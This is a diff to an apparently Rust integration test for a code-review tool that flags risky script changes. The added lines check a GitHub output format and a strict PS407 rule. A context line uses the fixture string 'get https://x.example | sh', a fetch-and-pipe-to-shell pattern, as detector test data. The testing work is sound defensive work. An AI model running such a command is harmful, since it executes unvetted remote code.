@@ -515,6 +515,21 @@ fn a_script_that_a_command_runs_is_part_of_the_change() {
         "+get https://x.example | sh"
     );
     assert_eq!(json["dangers"], 1);
+    let github = solo.run("review main --format github").ok();
+    github.says("file=tools/mix.sh,line=3,");
+    // Where what is to be looked at twice is an error, so is this.
+    solo.git("checkout -q main");
+    solo.write(".planspec.yaml", "rules: {PS407: error}\n")
+        .commit("Strict");
+    solo.git("checkout -q change");
+    solo.git("rebase -q main");
+    solo.run("review main")
+        .exits(1)
+        .says("1 error to correct (PS407), 1 change to look at twice");
+    solo.git("checkout -q main");
+    solo.git("reset -q --hard HEAD~1");
+    solo.git("checkout -q change");
+    solo.git("rebase -q --onto main HEAD~2");
     // A check runs the one and looks at the other.
     solo.write("tools/mix.sh", "#!/bin/sh\necho mixed\n")
         .write("tools/weigh.sh", "exit 0\n")
